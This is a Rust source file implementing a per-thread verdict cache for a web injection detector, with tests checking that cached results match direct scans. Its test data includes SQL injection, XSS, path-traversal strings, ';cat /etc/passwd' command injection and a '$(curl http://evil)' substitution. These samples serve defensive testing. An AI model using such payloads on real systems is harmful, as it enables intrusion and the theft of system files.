//! Verdicts remembered per value: the four injection rules of the pack scan
//! the same fields of the same span one after the other, and real traffic
//! repeats query strings, paths and bodies. So a value is decoded and
//! scanned once for every class, and the findings are kept in a small
//! per-thread table; the next rule (or the next span with the same value)
//! reads them.
//!
//! A verdict depends on the value alone, so a hit is never stale. A value's
//! set of [`WAYS`] slots is chosen by a hash keyed per thread at random
//! (crafted values cannot aim at one set), and a slot is checked by its hash
//! then the whole value, so a collision only costs a scan. The sets keep
//! a few values each because real traffic has a few hot values (a span's
//! query string, path and user agent are asked for by every injection
//! rule): with one slot per hash, two hot values that landed on the same
//! slot evicted each other on every span, and whether any did depended on
//! the random key (the pack benchmark has 19 distinct values: about one
//! seed in six puts two on one slot, and one such run rescanned a tenth of
//! its lookups). Within a set the newest value is checked first and the
//! oldest replaced. Memory is bounded: [`SLOTS`] values of at most
//! [`MAX_CACHED_BYTES`], and the [`LONG_SLOTS`] longer values scanned last
//! (a span's long fields, a body, a query string and a header, are asked for
//! by each injection rule in turn; with one slot they evicted each other and
//! every rule rescanned them).
//!
//! Scanning for all classes at once finds, for each class, what a scan for
//! that class alone finds: parts are scanned in the same order and a class
//! stops only at its own first hit (`same_as_scanning_each_class`).

use ahash::RandomState;
use std::cell::RefCell;

use super::{AttackClass, DETECTOR, Finding};

/// Values remembered per thread.
const SLOTS: usize = 1024;
/// Slots a value may take (the newest first).
const WAYS: usize = 4;
/// Longest value kept in the table (longer ones use the long slots).
const MAX_CACHED_BYTES: usize = 1024;
/// Long values remembered, replaced oldest first.
const LONG_SLOTS: usize = 4;

/// What a value holds: at most one finding per class, in the order of
/// [`AttackClass::ALL`] ([`class_index`]).
pub type Findings = [Option<Finding>; 4];

struct Entry {
    /// The value's hash: most mismatches are seen without reading it.
    hash: u64,
    value: Box<str>,
    findings: Findings,
}

/// A set-associative table of verdicts, and the last long values.
pub(crate) struct VerdictCache {
    /// Sets of `ways` slots, newest first.
    slots: Vec<Option<Entry>>,
    ways: usize,
    /// Sets - 1: their number is a power of two.
    set_mask: usize,
    long: [Option<Entry>; LONG_SLOTS],
    /// The long slot replaced next.
    next_long: usize,
    hasher: RandomState,
    hits: u64,
    misses: u64,
}

impl VerdictCache {
    /// A table of at most `slots` values (and at least one): a power of
    /// two of sets.
    pub(crate) fn with_slots(slots: usize) -> VerdictCache {
        let ways = WAYS.min(slots.max(1));
        let sets = prev_power_of_two((slots / ways).max(1));
        VerdictCache {
            slots: (0..sets * ways).map(|_| None).collect(),
            ways,
            set_mask: sets - 1,
            long: Default::default(),
            next_long: 0,
            hasher: RandomState::new(),
            hits: 0,
            misses: 0,
        }
    }

    /// The finding of `class` in `value`, scanning it (for every class)
    /// only when it is not remembered.
    #[cfg(test)]
    pub(crate) fn scan(&mut self, class: AttackClass, value: &str) -> Option<Finding> {
        self.findings(value)[class_index(class)]
    }

    /// Every class's finding in `value`, scanning it only when it is not
    /// remembered.
    pub(crate) fn findings(&mut self, value: &str) -> Findings {
        if value.len() <= MAX_CACHED_BYTES {
            return self.findings_in_set(value);
        }
        let entry = {
            let at = self
                .long
                .iter()
                .position(|slot| slot.as_ref().is_some_and(|found| *found.value == *value))
                .unwrap_or_else(|| {
                    let at = self.next_long;
                    self.next_long = (at + 1) % LONG_SLOTS;
                    at
                });
            &mut self.long[at]
        };
        match entry {
            Some(found) if *found.value == *value => {
                self.hits += 1;
                found.findings
            }
            _ => {
                let findings = scan_all(value);
                *entry = Some(Entry {
                    // Long slots are few: found by their value alone.
                    hash: 0,
                    value: value.into(),
                    findings,
                });
                self.misses += 1;
                findings
            }
        }
    }

    fn findings_in_set(&mut self, value: &str) -> Findings {
        let hash = self.hasher.hash_one(value);
        let start = (hash as usize & self.set_mask) * self.ways;
        let Some(set) = self.slots.get_mut(start..start + self.ways) else {
            return scan_all(value);
        };
        for slot in set.iter().flatten() {
            if slot.hash == hash && *slot.value == *value {
                self.hits += 1;
                return slot.findings;
            }
        }
        // The oldest goes; the new value is checked first from now on.
        set.rotate_right(1);
        let findings = scan_all(value);
        set[0] = Some(Entry {
            hash,
            value: value.into(),
            findings,
        });
        self.misses += 1;
        findings
    }

    /// (hits, misses) so far.
    pub(crate) fn counts(&self) -> (u64, u64) {
        (self.hits, self.misses)
    }
}

/// The largest power of two not above `n` (`n` >= 1).
fn prev_power_of_two(n: usize) -> usize {
    1 << (usize::BITS - 1 - n.max(1).leading_zeros())
}

/// Where `class` is in [`Findings`].
pub fn class_index(class: AttackClass) -> usize {
    match class {
        AttackClass::SqlInjection => 0,
        AttackClass::CrossSiteScripting => 1,
        AttackClass::PathTraversal => 2,
        AttackClass::CommandInjection => 3,
    }
}

fn scan_all(value: &str) -> Findings {
    let mut findings = [None; 4];
    let mut out = Vec::new();
    DETECTOR.detect_into(value, &mut out);
    for finding in out {
        findings[class_index(finding.class)] = Some(finding);
    }
    findings
}

thread_local! {
    static CACHE: RefCell<VerdictCache> = RefCell::new(VerdictCache::with_slots(SLOTS));
}

/// Every class's finding in `value` (as [`super::scan`] finds it for each),
/// through this thread's verdict cache.
pub fn findings_cached(value: &str) -> Findings {
    CACHE.with(|cache| match cache.try_borrow_mut() {
        Ok(mut cache) => cache.findings(value),
        // Not reentrant; scanning never calls back here, but stay correct.
        Err(_) => scan_all(value),
    })
}

/// This thread's (hits, misses) of the verdict cache.
pub fn cache_counts() -> (u64, u64) {
    CACHE.with(|cache| cache.try_borrow().map_or((0, 0), |c| c.counts()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const VALUES: [&str; 12] = [
        "q=1' UNION SELECT password FROM users--",
        "city=Berlin&days=3&units=metric",
        "<script>alert(1)</script>",
        "file=../../../../etc/passwd",
        "host=example.com;cat /etc/passwd",
        "/api/products/42",
        "name=O'Brien&band=rock+%26+roll",
        "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&x=..%2f..%2fwin.ini",
        "{\"cmd\": \"$(curl http://evil)\", \"q\": \"1 or 1=1\"}",
        "",
        "fields=lat,lon,tz",
        "a=1;b=2",
    ];

    #[test]
    fn same_as_scanning_each_class() {
        let long = format!("q={}&x=<script>", "a".repeat(4000));
        let mut cache = VerdictCache::with_slots(SLOTS);
        for round in 0..2 {
            for value in VALUES.iter().copied().chain([long.as_str()]) {
                for class in AttackClass::ALL {
                    assert_eq!(
                        cache.scan(class, value),
                        super::super::scan(class, value),
                        "{class:?} in {value:?}, round {round}"
                    );
                }
            }
        }
        let (hits, misses) = cache.counts();
        // Each value scanned once per round at most; the rest are hits.
        assert!(misses <= 2 * (VALUES.len() as u64 + 1), "{misses}");
        assert!(hits >= 2 * 4 * VALUES.len() as u64 - misses, "{hits}");
    }

    #[test]
    fn collisions_and_evictions_only_cost_a_scan() {
        // Two slots for a dozen values: every lookup collides or evicts.
        let mut cache = VerdictCache::with_slots(2);
        for _ in 0..3 {
            for value in VALUES {
                for class in AttackClass::ALL {
                    assert_eq!(
                        cache.scan(class, value),
                        super::super::scan(class, value),
                        "{class:?} in {value:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn values_of_one_set_do_not_evict_each_other() {
        // One set: every value hashes to it. Four alternating values are
        // scanned once each; a fifth evicts the oldest, which is scanned
        // again when it comes back.
        let mut cache = VerdictCache::with_slots(WAYS);
        for _ in 0..3 {
            for value in &VALUES[..WAYS] {
                cache.findings(value);
            }
        }
        assert_eq!(cache.counts(), (2 * WAYS as u64, WAYS as u64));
        cache.findings(VALUES[WAYS]);
        cache.findings(VALUES[1]);
        assert_eq!(cache.counts().1, WAYS as u64 + 1, "the newer ones stay");
        cache.findings(VALUES[0]);
        assert_eq!(cache.counts().1, WAYS as u64 + 2, "the oldest went");
    }

    #[test]
    fn long_fields_of_one_span_are_scanned_once() {
        // The pack's four injection rules each read a span's long query,
        // body and header in turn: three long values, one scan each.
        let fields = [
            format!("q={}", "a".repeat(2000)),
            format!("{{\"text\":\"{}\"}}", "b ".repeat(1500)),
            format!("Mozilla/5.0 {}", "c".repeat(1100)),
        ];
        let mut cache = VerdictCache::with_slots(SLOTS);
        for class in AttackClass::ALL {
            for value in &fields {
                assert_eq!(cache.scan(class, value), super::super::scan(class, value));
            }
        }
        assert_eq!(cache.counts(), (9, 3));
        // More long values than slots: the oldest goes, answers stay right.
        for round in 0..2 {
            for n in 0..LONG_SLOTS + 2 {
                let value = format!("x={n}{}", ";cat /etc/passwd ".repeat(80));
                for class in AttackClass::ALL {
                    assert_eq!(
                        cache.scan(class, &value),
                        super::super::scan(class, &value),
                        "{class:?}, value {n}, round {round}"
                    );
                }
            }
        }
    }

    #[test]
    fn the_thread_cache_counts() {
        let value = "q=1' UNION SELECT 1--";
        let before = cache_counts();
        for class in AttackClass::ALL {
            assert_eq!(
                findings_cached(value)[class_index(class)],
                super::super::scan(class, value)
            );
        }
        let after = cache_counts();
        assert_eq!(after.1 - before.1, 1, "one scan for four classes");
        assert_eq!(after.0 - before.0, 3);
    }
}
